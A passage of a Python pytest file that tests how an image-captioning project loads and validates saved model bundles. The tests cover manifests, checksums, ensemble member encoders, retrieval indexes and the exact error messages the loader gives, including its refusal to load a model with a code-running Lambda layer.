                                       "implementations": {"bleu": "nltk"}})
    assert (full.runs, full.sweep, full.human_agreement, full.implementations, full.notes, full.evaluated) == \
        ([], [{"lp": 1}], {"k": 1}, {"bleu": "nltk"}, [], False)
    for bad in ({"results": {}}, {"results": [{"decoding": "greedy"}]}, {"results": ["x"]}):
        (tmp_path / "metrics.json").write_text(json.dumps(bad))
        with pytest.raises(BundleError) as err:
            EvaluationReport.load(tmp_path)
        assert str(err.value) == (f"Bundle {tmp_path}: metrics.json holds no list of results. Re-evaluate with: "
                                  f"python train.py evaluate --out {tmp_path}")
    (tmp_path / "metrics.json").unlink()
    (tmp_path / "predictions.csv").write_text("image,decoding,beam_width,caption\nx.jpg,beam,5,a dog\n")
    only = EvaluationReport.load(tmp_path)
    assert only.runs == [] and only.predictions["caption"].tolist() == ["a dog"] and not only.evaluated


def test_load_bundle_refuses_unsafe_or_foreign_model_files_with_the_bundles_message(copy):
    import keras

    lam = keras.Sequential([keras.Input((3,)), keras.layers.Lambda(lambda x: x * 2)])   # runs code when loaded
    lam.save(copy / "member-1.keras")
    with pytest.raises(BundleError) as err:
        load_bundle(copy, verify=False)
    assert str(err.value).startswith(f"Bundle {copy}: member-1.keras could not be loaded (ValueError: Requested the "
                                     f"deserialization of a `Lambda` layer")
    assert str(err.value).endswith(f"). Rebuild it with: python train.py --out {copy}")
    assert len(str(err.value).split("(ValueError: ")[1].split("). Rebuild")[0]) == 200     # the reason, cut short
    plain = keras.Sequential([keras.Input((3,)), keras.layers.Dense(2)])              # a model, but not a decoder
    plain.save(copy / "member-1.keras")
    with pytest.raises(BundleError) as err:
        load_bundle(copy, verify=False)
    assert str(err.value) == (f"Bundle {copy}: ensemble member member-1.keras predicts ? words but vocab.json has 9; "
                              f"the vocabulary does not belong to this model. Rebuild it with: python train.py "
                              f"--out {copy}")
    decoder(kind="merge").save(copy / "member-1.keras")
    other = build_decoder("merge", vocab_size=11, feature_dim=1280, embed_dim=4, units=5)
    other.save(copy / "member-1.keras")
    with pytest.raises(BundleError) as err:
        load_bundle(copy, verify=False)
    assert str(err.value).startswith(f"Bundle {copy}: ensemble member member-1.keras predicts 11 words but vocab.json "
                                     f"has 9")


def test_every_listed_file_is_checked_even_when_results_are_skipped_or_missing(copy):
    good = (copy / "vocab.json").read_text()
    (copy / "vocab.json").write_text(good.replace("grass", "grasz"))
    with pytest.raises(BundleError, match="vocab.json is damaged"):
        load_bundle(copy, load_results=False)                             # metrics.json skipped, vocab.json not
    (copy / "predictions.csv").unlink()
    with pytest.raises(BundleError, match="vocab.json is damaged"):
        load_bundle(copy)                                                  # predictions.csv missing, vocab.json not
    (copy / "vocab.json").write_text(good)
    (copy / "member-1.keras").unlink()
    with pytest.raises(BundleError) as err:
        load_bundle(copy)
    assert str(err.value) == (f"Bundle {copy} is incomplete: member-1.keras is missing. Rebuild it with: python "
                              f"train.py --out {copy}")


def test_an_index_from_another_encoder_or_size_is_refused(copy):
    from captioning.evaluation.trust import build_index

    rng = np.random.default_rng(1)
    names, captions = [f"p{i}.jpg" for i in range(4)], [["a dog"]] * 4
    bundle_module.save_index(copy, build_index(names, rng.normal(size=(4, 1280)), captions, "xception-299", k=2))
    with pytest.raises(BundleError) as err:
        load_bundle(copy)
    assert str(err.value) == (f"Bundle {copy}: its retrieval index is invalid (the index was built with encoder "
                              f"'xception-299', the bundle uses 'mobilenetv2-a0.35-224'). Rebuild it with: python "
                              f"train.py index --out {copy}")
    bundle_module.save_index(copy, build_index(names, rng.normal(size=(4, 64)), captions, "mobilenetv2-a0.35-224",
                                               k=2))
    with pytest.raises(BundleError, match=r"its retrieval index is invalid \(.*64.*1280|1280.*64"):
        load_bundle(copy)


def test_results_files_are_written_as_indented_json_and_a_plain_table(copy):
    metrics = {"results": [{"decoding": "greedy", "beam_width": 1, "split": "dev", "n_images": 1, "b": "é"}]}
    table = pd.DataFrame({"image": ["x.jpg"], "decoding": ["greedy"], "beam_width": [1], "caption": ["a dog"]})
    update_results(copy, metrics, table)
    assert (copy / "metrics.json").read_text(encoding="utf-8") == json.dumps(metrics, indent=2)
    assert (copy / "predictions.csv").read_text().splitlines() == ["image,decoding,beam_width,caption",
                                                                   "x.jpg,greedy,1,a dog"]


def test_stray_index_files_are_not_adopted_and_missing_results_do_not_stop_an_index(copy):
    from captioning.evaluation.trust import INDEX_FILES, build_index

    (copy / "predictions.csv").unlink()                                    # listed, but gone (captioning allows it)
    index = build_index(["p.jpg", "q.jpg"], np.ones((2, 1280)), [["a"], ["b"]], "mobilenetv2-a0.35-224", k=1)
    bundle_module.save_index(copy, index)
    files = json.loads((copy / "manifest.json").read_text())["files"]
    assert "predictions.csv" not in files and set(INDEX_FILES) <= set(files)
    assert len(load_bundle(copy).index) == 2
    stray = copy.parent / "stray"
    shutil.copytree(copy, stray)
    edit_manifest(stray, files={k: v for k, v in files.items() if k not in INDEX_FILES})    # on disk, not listed
    update_results(stray, METRICS)
    assert not set(INDEX_FILES) & set(json.loads((stray / "manifest.json").read_text())["files"])
    assert load_bundle(stray).index is None


def test_manifest_errors_name_this_bundles_rebuild_command_exactly(tmp_path):
    for name in ("decoder.keras", "vocab.json"):
        (tmp_path / name).write_text("x")
    hint = f"Rebuild it with: python train.py --out {tmp_path}"
    (tmp_path / "manifest.json").write_text("{")
    with pytest.raises(BundleError) as err:
        read_manifest(tmp_path)
    assert str(err.value) == (f"Bundle {tmp_path}: manifest.json is not valid JSON (Expecting property name enclosed "
                              f"in double quotes: line 1 column 2 (char 1)). {hint}")
    manifest = good_manifest()
    del manifest["files"]
    (tmp_path / "manifest.json").write_text(json.dumps(manifest))
    with pytest.raises(BundleError) as err:
        read_manifest(tmp_path)
    assert str(err.value) == f"Bundle {tmp_path}: manifest.json lacks 'files'. {hint}"
    (tmp_path / "manifest.json").write_text(json.dumps(good_manifest(vocab_size=2, ensemble_of=[{"bundle": "m1"}])))
    with pytest.raises(BundleError) as err:
        read_manifest(tmp_path)
    assert str(err.value) == (f"Bundle {tmp_path}: manifest.json has a malformed 'vocab_size' (expected a whole number "
                              f"above 4). Rebuild it with: python train.py ensemble --members {tmp_path.parent / 'm1'} "
                              f"--out {tmp_path}")


def test_an_unreadable_predictions_table_gives_the_parsers_reason_on_one_line(tmp_path):
    (tmp_path / "predictions.csv").write_text("image,decoding,beam_width,caption\nx.jpg,greedy,1,a dog\n"
                                              "y.jpg,greedy,1,a,cat,too many\n")
    with pytest.raises(BundleError) as err:
        read_predictions(tmp_path)
    assert str(err.value) == (f"Bundle {tmp_path}: predictions.csv is not a valid table (Error tokenizing data. C "
                              f"error: Expected 4 fields in line 3, saw 6). Re-evaluate with: python train.py evaluate "
                              f"--out {tmp_path}")


def test_typed_records_keep_what_they_were_read_from():
    raw = {"kind": "merge", "config": {"units": 5}, "file": "member-1.keras"}
    dec = DecoderInfo.from_dict(raw)
    assert dec.raw is raw and dec["file"] == "member-1.keras" and dict(dec) == raw
    m = Manifest.from_dict(good_manifest())
    assert m.files == {"decoder.keras": DIGEST, "vocab.json": DIGEST} and m.decoder.raw == {}


# --- a cross-encoder ensemble's member encoders, the index switch and the retrieval decoder's steps ---------------
def test_a_cross_encoder_ensemble_records_and_loads_each_members_own_encoder(tmp_path):
    """save_bundle writes a member's encoder block only when it reads another encoder than the bundle's (given as
    the type or its JSON); load_bundle gives every decoder its encoder, in order, and checks each one's width."""
    from captioning.vision.encoders import ENCODER_NAMES

    main = decoder("merge", 1)
    members = (decoder("attention", 2), decoder("merge", 3), decoder("merge", 4), decoder("merge", 5, 1792))
    half = EncoderInfo.from_dict({"name": "mobilenetv2", "alpha": 0.5})
    path = save_bundle(tmp_path / "cross", main, VOCAB, {"encoder": ENCODER, "max_length": 12}, members=members,
                       member_encoders=[half, None, {"name": "mobilenetv2", "alpha": 0.75},
                                        {"name": "mobilenetv2", "alpha": 1.4}])    # 1.4: 1792-d features
    entries = json.loads((path / "manifest.json").read_text())["members"]
    assert [m["file"] for m in entries] == ["member-1.keras", "member-2.keras", "member-3.keras", "member-4.keras"]
    assert entries[0]["encoder"] == {"name": "mobilenetv2", "alpha": 0.5} and "encoder" not in entries[1]
    assert entries[2]["encoder"] == {"name": "mobilenetv2", "alpha": 0.75}
    b = load_bundle(path)
    assert b.decoder_keys == ["mobilenetv2-a0.35-224", "mobilenetv2-a0.5-224", "mobilenetv2-a0.35-224",
                              "mobilenetv2-a0.75-224", "mobilenetv2-a1.4-224"]
    assert [d.kind for d in b.decoders] == ["merge", "attention", "merge", "merge", "merge"] and b.multi_encoder
    assert [(e.name, e.alpha) for e in b.encoders] == [("mobilenetv2", 0.35), ("mobilenetv2", 0.5),
                                                       ("mobilenetv2", 0.75), ("mobilenetv2", 1.4)]
    assert [d.feature_dim for d in b.decoders] == [1280, 1280, 1280, 1280, 1792]       # each checked on its own
    assert b.spatial_for("mobilenetv2-a0.5-224") and not b.spatial_for("mobilenetv2-a0.35-224")
    assert not b.spatial_for("mobilenetv2-a0.75-224") and not b.spatial_for("xception-299")
    with pytest.raises(ValueError) as err:
        save_bundle(tmp_path / "bad", main, VOCAB, {"encoder": ENCODER}, members=members, member_encoders=[None])
    assert str(err.value) == "4 members but 1 member encoders" and not (tmp_path / "bad").exists()

    manifest = json.loads((path / "manifest.json").read_text())
    entries[0]["encoder"] = {"name": "resnet9"}
    edit_manifest(path, members=entries)
    with pytest.raises(BundleError) as err:
        load_bundle(path, verify=False)
    assert str(err.value) == (f"Bundle {path}: unknown encoder for ensemble member member-1.keras (unknown encoder "
                              f"'resnet9'; choose one of {', '.join(ENCODER_NAMES)}). "
                              f"{_rebuild_hint(path, manifest)}")
    entries[0]["encoder"] = {"name": "xception"}                                      # 2048-d, the member reads 1280
    edit_manifest(path, members=entries)
    with pytest.raises(BundleError) as err:
        load_bundle(path, verify=False)
    assert str(err.value) == (f"Bundle {path}: encoder xception-299 gives 2048-d features but ensemble member "
                              f"member-1.keras expects 1280. {_rebuild_hint(path, manifest)}")


def test_a_damaged_index_is_named_unless_the_index_is_not_read(copy):
    """load_index=False neither checks nor reads the index files (the other files still are); read_index reads
    the index alone, checked the same way, and None for a bundle without one."""
    from captioning.evaluation.trust import INDEX_FILES, build_index
    from captioning.vision.encoders import get_spec

    spec = get_spec("mobilenetv2", 0.35)
    assert bundle_module.read_index(copy, spec) is None
    rng = np.random.default_rng(2)
    bundle_module.save_index(copy, build_index([f"p{i}.jpg" for i in range(5)], rng.normal(size=(5, 1280)),
                                               [[f"caption {i}"] for i in range(5)], spec.key, k=2))
    index = bundle_module.read_index(copy, spec)
    assert index.names == [f"p{i}.jpg" for i in range(5)] and index.k == 2
    assert [c[0] for c in index.captions] == [f"caption {i}" for i in range(5)]
    with pytest.raises(BundleError) as err:
        bundle_module.read_index(copy, get_spec("xception"))
    assert str(err.value).startswith(f"Bundle {copy}: its retrieval index is invalid (index.npy h")
    assert str(err.value).endswith(f"features). Rebuild it with: python train.py index --out {copy}")
    for name in INDEX_FILES:
        saved_bytes = (copy / name).read_bytes()
        (copy / name).write_bytes(saved_bytes + b" ")
        message = (f"Bundle {copy}: {name} is damaged (its checksum does not match the manifest). Rebuild the index "
                   f"with: python train.py index --out {copy}")
        for read in (lambda: load_bundle(copy), lambda: bundle_module.read_index(copy, spec)):
            with pytest.raises(BundleError) as err:
                read()
            assert str(err.value) == message
        unread = load_bundle(copy, load_index=False)                    # not read, so not checked either
        assert unread.index is None and len(unread.members) == 1
        (copy / name).write_bytes(saved_bytes)
    (copy / "vocab.json").write_text((copy / "vocab.json").read_text() + " ")
    with pytest.raises(BundleError, match=r"vocab.json is damaged \(its checksum"):
        load_bundle(copy, load_index=False)                               # every other file is still checked


def test_a_retrieval_decoder_steps_over_the_bundles_index_with_its_recorded_boost(saved):
    """Bundle._steps: a retrieval decoder reads the bundle's index as its memory, with the bundle's vocabulary and
    the manifest's new-word boost (0 when the training block records none); without an index, the exact message."""
    from dataclasses import replace

    from captioning.evaluation.trust import build_index
    from captioning.models.retrieval import RetrievalDecoder
    from captioning.models.retrieval_steps import IndexMemory, RetrievalStepDecoder
    from captioning.models.stepper import StepDecoder

    model = RetrievalDecoder(len(VOCAB), 1280, embed_dim=4, units=5, neighbours=2, caption_tokens=5)
    model.build()
    rng = np.random.default_rng(3)
    features = rng.normal(size=(3, 1280)).astype("float32")
    index = build_index(["p0.jpg", "p1.jpg", "p2.jpg"], features, [["a dog runs"], ["a dog"], ["grass"]],
                        "mobilenetv2-a0.35-224", k=2)
    b = load_bundle(saved[0])
    assert not hasattr(b.manifest.training, "new_word_boost")              # not a retrieval run's training block
    assert isinstance(b._steps(b.decoder), StepDecoder)
    with pytest.raises(BundleError) as err:
        b._steps(model)
    assert str(err.value) == (f"Bundle {b.path}: its retrieval decoder needs the datastore (index.npy and "
                              f"index.json). Rebuild the index with: python train.py index --out {b.path}")
    steps = replace(b, index=index)._steps(model)
    assert isinstance(steps, RetrievalStepDecoder) and steps.model is model and steps.vocab is b.vocab
    assert isinstance(steps.memory, IndexMemory) and steps.memory.index is index and steps.new_word_boost == 0.0
    hits = steps.memory.retrieve(features[:1], 2)[0]
    assert hits[0][:2] == ("a dog runs", "p0.jpg") and hits[0][3] == "training" and len(hits) == 2


def test_the_path_at_numbers_syntax_picks_decoders_and_names_each_mistake(tmp_path):
    """training.picks: ``PATH@1,3`` (train.py ensemble --members, the scripts) -> the path and 0-based indices;
    a folder whose own name holds an @ is a path; each mistake has its message."""
    from captioning.training.picks import check_pick, split_pick

    assert split_pick("artifacts/default") == ("artifacts/default", None)
    assert split_pick("artifacts/default@2") == ("artifacts/default", [1])
    assert split_pick("a@b/default@3,1") == ("a@b/default", [2, 0])
    odd = tmp_path / "odd@1"
    odd.mkdir()
    assert split_pick(str(odd)) == (str(odd), None) and split_pick(odd) == (str(odd), None)
    for arg, message in [("x@1,a", "x@1,a: after @ give decoder numbers separated by commas, e.g. x@1,3"),
                         ("x@", "x@: after @ give decoder numbers separated by commas, e.g. x@1,3"),
                         ("x@0", "x@0: decoder numbers start at 1 and each is picked at most once"),
                         ("x@2,2", "x@2,2: decoder numbers start at 1 and each is picked at most once")]:
        with pytest.raises(ValueError) as err:
            split_pick(arg)
        assert str(err.value) == message
    assert split_pick("x@1,2") == ("x", [0, 1])
    assert check_pick("x", None, 3) == [0, 1, 2] and check_pick("x@3", [2], 3) == [2]
    with pytest.raises(ValueError) as err:
        check_pick("x@4", [3], 3)
    assert str(err.value) == "x@4: the bundle has decoders 1 to 3"
